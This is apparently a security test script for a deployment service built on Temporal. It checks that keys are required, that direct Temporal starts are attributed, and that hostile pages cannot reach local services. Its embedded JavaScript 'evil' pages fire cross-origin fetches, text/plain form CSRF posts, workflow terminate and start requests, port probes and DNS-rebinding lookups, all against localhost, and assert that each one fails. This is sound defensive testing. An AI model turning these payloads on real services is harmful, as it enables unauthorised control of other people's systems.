"""Tries the doors of an installation that wants a key from everybody: past the API into Temporal, and from pages in a browser.

usage: doors.py DATA TEMPORAL-CLI BAD-PORT...
"""

import base64
import http.server
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request

DATA, CLI, *BAD_PORTS = sys.argv[1:]
PORTS = dict(line.strip().split("=") for line in open(f"{DATA}/run/ports"))
API, UI, GRPC = (f"http://127.0.0.1:{PORTS[name]}" for name in ("PORT", "UI_PORT", "TEMPORAL_PORT"))
KEY = open(f"{DATA}/secrets/ops.key").read().strip()
RUNS = "/api/v1/namespaces/default/workflows"
# What is told by nobody but to whoever shows a key.
OURS = re.compile(r"fleet_|deploy_|planner|workflowExecution|workflow_type|opsaga-")


def check(holds, what):
    if not holds:
        sys.exit(f"doors: {what}")


def ask(url, key=None, method="GET", body=None, headers=()):
    headers = dict(headers, **({"Authorization": f"Bearer {key}"} if key else {}))
    request = urllib.request.Request(url, data=body, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        try:
            return error.code, error.read().decode()
        except OSError:  # Whoever refuses before all was sent may cut the line as well.
            return error.code, ""
    except OSError as error:
        return 0, str(error)


def told(path, body=None):
    status, text = ask(API + path, KEY, "POST" if body else "GET", body and json.dumps(body).encode(), {"Content-Type": "application/json"})
    check(status in (200, 202), f"{path} answers {status}: {text}")
    return json.loads(text)


def stage(path, wanted):
    for _ in range(200):
        status = told(path)
        if status["stage"] == wanted:
            return status
        time.sleep(0.2)
    sys.exit(f"doors: {path} is {status['stage']}, not {wanted}")


def temporal(*words):
    return subprocess.run(
        [CLI, *words, "--address", GRPC[7:], "--identity", "mallory"], capture_output=True, text=True, timeout=60, check=False)


def ports(name):
    pid = open(f"{DATA}/run/{name}.pid").read().strip()
    lines = subprocess.run(["ss", "-Hltnp"], capture_output=True, text=True, check=True).stdout.splitlines()
    return [int(re.search(r"[:\]](\d+) ", line).group(1)) for line in lines if f"pid={pid}," in line]


def world():
    return [
        [(agent["agent_id"], agent["current_version"], agent["health"]) for agent in told("/agents")["agents"]],
        sorted(one["operation_id"] for one in told("/fleet/operations?active=false")["operations"]),
        sorted(one["deployment_id"] for one in told("/deployments?active=false")["deployments"]),
        sorted(re.findall(r'"status": "(\w+)"', temporal("workflow", "list", "-o", "json").stdout)),
    ]


def start(version):
    """The input of a deployment as the API sends it."""
    operation = {
        "id": "deploy_evil", "kind": "DEPLOYMENT", "environment": "development", "target": "planner", "machine": "main-pc",
        "version": version, "actor": "local", "reason": "from a web page", "requestedAt": "2026-01-01T00:00:00Z",
        "terms": {"lease": 86400, "patience": 60, "undoPatience": 300, "estimates": {}, "planning": None},
    }
    return {"operation": operation, "runtime": "process", "autoRollback": True, "limits": None, "ignored": [], "rollsBack": None}


def start_over_http():
    payload = {"metadata": {"encoding": base64.b64encode(b"json/plain").decode()},
               "data": base64.b64encode(json.dumps(start("1.0.0")).encode()).decode()}
    return json.dumps({"workflowType": {"name": "Deployment"}, "taskQueue": {"name": "opsaga"}, "input": {"payloads": [payload]}})


def nobody_without_a_key():
    for path in ("/", "/health", "/agents", "/docs", "/actuator/prometheus", "/actuator/health", "/whoami"):
        check(ask(API + path)[0] == 401, f"{path} is served without a key")
        check(ask(UI + path)[0] == 401, f"{path} of the Web UI is served without a key")
    for path in ("/health/live", "/health/ready"):
        check(ask(API + path) == (200, '{"status":"up"}'), f"{path} says {ask(API + path)}")
    basic = {"Authorization": "Basic " + base64.b64encode(f"me:{KEY}".encode()).decode()}
    check("<html" in ask(UI + "/", headers=basic)[1], "the Web UI is not served to whoever has a key")
    status, text = ask(UI + RUNS, headers=basic)
    check(status == 200 and "fleet_" in text, f"the Web UI lists no runs: {status} {text[:200]}")


def nothing_past_the_api():
    before = world()
    for port in ports("temporal") + ports("temporal-ui"):
        for scheme in ("http", "https"):
            status, text = ask(f"{scheme}://127.0.0.1:{port}{RUNS}/deploy_evil", method="POST", body=start_over_http().encode(),
                               headers={"Content-Type": "text/plain", "Origin": "http://evil.example"})
            check(status != 200, f"port {port} takes what a page sends: {text[:200]}")
    made = temporal("workflow", "execute", "--type", "Deployment", "--task-queue", "opsaga", "--workflow-id", "deploy_evil",
                    "--input", json.dumps(start("1.0.0")))
    check("was not started by Opsaga but by temporal:mallory" in made.stdout, f"a start past the API: {made.stdout} {made.stderr}")
    before[3].append("WORKFLOW_EXECUTION_STATUS_FAILED")
    before[3].sort()
    check(world() == before, f"a start past the API changed something: {before} {world()}")


def an_order_is_whose_it_is():
    id = told("/deploy", {"agent_id": "planner", "environment": "development", "version": "1.0.0"})["deployment_id"]
    check(stage(f"/deployments/{id}/status", "completed")["actor"] == "opsaga-ops", "the deployment is somebody else's")
    temporal("workflow", "signal", "--workflow-id", id, "--name", "rollback", "--input", '{"actor": "alice", "reason": "slow"}')
    status = stage(f"/deployments/{id}/status", "rolled_back")
    check(status["rollback"]["actor"] == "temporal:mallory" and status["rollback"]["reason"] == "slow", f"{status['rollback']}")


PAGE = """<!doctype html><title>evil</title><body><script>
const told = [];
const attempt = async (url, options) => {
  try {
    const answer = await fetch(url, {signal: AbortSignal.timeout(8000), credentials: "include", ...options});
    told.push([url, options.method || "GET", answer.type, await answer.text()]);
  } catch (e) { told.push([url, options.method || "GET", "refused", ""]); }
};
(async () => {
  const all = [];
  for (const [url, body] of %s) {
    for (const mode of ["cors", "no-cors"]) {
      all.push(attempt(url, {mode}));
      all.push(attempt(url, {mode, method: "POST", body, headers: {"Content-Type": "text/plain"}}));
    }
    const frame = document.createElement("iframe");
    frame.name = url;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {action: url, method: "post", enctype: "text/plain", target: url});
    form.append(Object.assign(document.createElement("input"), {name: body, value: ""}));
    document.body.append(form);
    form.submit();
  }
  await Promise.all(all);
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


class Evil(http.server.BaseHTTPRequestHandler):
    targets, reports, reported = [], [], threading.Event()

    def do_GET(self):
        self.answer(PAGE % json.dumps(self.targets))

    def do_POST(self):
        Evil.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        Evil.reported.set()
        self.answer("")

    def answer(self, text):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_):
        pass


def browser(folder, *words):
    return subprocess.Popen(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={folder}",
         "--host-resolver-rules=MAP *.example 127.0.0.1", *words],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True)


def pages_get_nothing(folder):
    """A page of another site at everything that listens: nothing readable, nothing changed."""
    before = world()
    fleet = before[1][0]
    kill, begin = f"{RUNS}/{fleet}/terminate", f"{RUNS}/deploy_evil2"
    deploy = json.dumps({"agent_id": "planner", "environment": "development", "version": "1.0.0"})
    targets = [(f"{API}/deploy", deploy), (f"{API}/agents", deploy), (UI + RUNS, "{}"), (UI + kill, "{}")]
    for port in set(ports("temporal") + ports("temporal-ui")):
        for scheme in ("http", "https"):
            base = f"{scheme}://127.0.0.1:{port}"
            targets += [(base + RUNS, "{}"), (base + "/metrics", "{}"), (base + kill, "{}"), (base + begin, start_over_http())]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    Evil.targets = targets
    threading.Thread(target=server.serve_forever, daemon=True).start()
    run = browser(folder, "--remote-debugging-port=0", f"http://evil.example:{server.server_port}/")
    done = Evil.reported.wait(90)
    os.killpg(run.pid, signal.SIGKILL)
    run.wait()
    server.shutdown()
    check(done, "the page in the browser did not come to its end")
    for url, method, kind, text in Evil.reports[0]:
        check(not text, f"{method} {url} could be read ({kind}): {text[:200]}")
    check(len(Evil.reports[0]) == 4 * len(targets), "the page did not try everything")
    check(world() == before, f"a page changed something: {before} {world()}")


class Tempting(Evil):
    reached = []

    def do_GET(self):
        Tempting.reached.append(self.server.server_port)
        self.answer(TEMPTED % json.dumps([port for port in map(int, BAD_PORTS) if port != self.server.server_port]))


TEMPTED = """<!doctype html><body><script>
Promise.all(%s.map(port => fetch(`http://127.0.0.1:${port}/`, {mode: "no-cors"}).then(() => port, () => 0)))
  .then(open => fetch("/report", {method: "POST", body: JSON.stringify(open.filter(port => port))}));
</script>"""


def bad_ports_are_bad(folder):
    """The browser goes to none of the ports that are held to be closed to it, whoever listens there."""
    servers = []
    for port in [0, *map(int, BAD_PORTS)]:
        try:
            servers.append(http.server.ThreadingHTTPServer(("127.0.0.1", port), Tempting))
        except OSError:  # Temporal's metrics listen there.
            continue
        threading.Thread(target=servers[-1].serve_forever, daemon=True).start()
    check(len(servers) > len(BAD_PORTS) / 2, "hardly any of the ports is free")
    Evil.reported.clear()
    run = browser(folder, "--remote-debugging-port=0", f"http://127.0.0.1:{servers[0].server_port}/")
    done = Evil.reported.wait(60)
    os.killpg(run.pid, signal.SIGKILL)
    run.wait()
    for server in servers:
        server.shutdown()
    check(done, "the page in the browser did not come to its end")
    reached = set(Tempting.reached) - {servers[0].server_port}
    check(not reached and not Evil.reports[-1], f"the browser goes to {reached or Evil.reports[-1]}")


def names_that_point_here_get_nothing(folder):
    """DNS rebinding: the page's own name points here by now, so that the browser takes all of this for its own site."""
    before = world()
    places = [(PORTS["PORT"], "/agents"), (PORTS["PORT"], "/health/ready"), (PORTS["UI_PORT"], RUNS)]
    places += [(port, path) for port in {*ports("temporal"), *ports("temporal-ui")} for path in (RUNS, "/metrics")]
    pages = []
    for port, path in places:
        run = browser(folder, "--dump-dom", "--timeout=4000", f"http://rebound.example:{port}{path}")
        try:
            pages.append(run.communicate(timeout=30)[0])
        finally:
            if run.poll() is None:
                os.killpg(run.pid, signal.SIGKILL)
        check(not OURS.search(pages[-1]), f"http://rebound.example:{port}{path} could be read: {pages[-1][:300]}")
    check('{"status":"up"}' in pages[1], "the browser reaches nothing at all under that name")
    check(world() == before, "a page changed something")


def main():
    nobody_without_a_key()
    nothing_past_the_api()
    an_order_is_whose_it_is()
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        pages_get_nothing(folder)
        bad_ports_are_bad(folder)
        names_that_point_here_get_nothing(folder)


main()
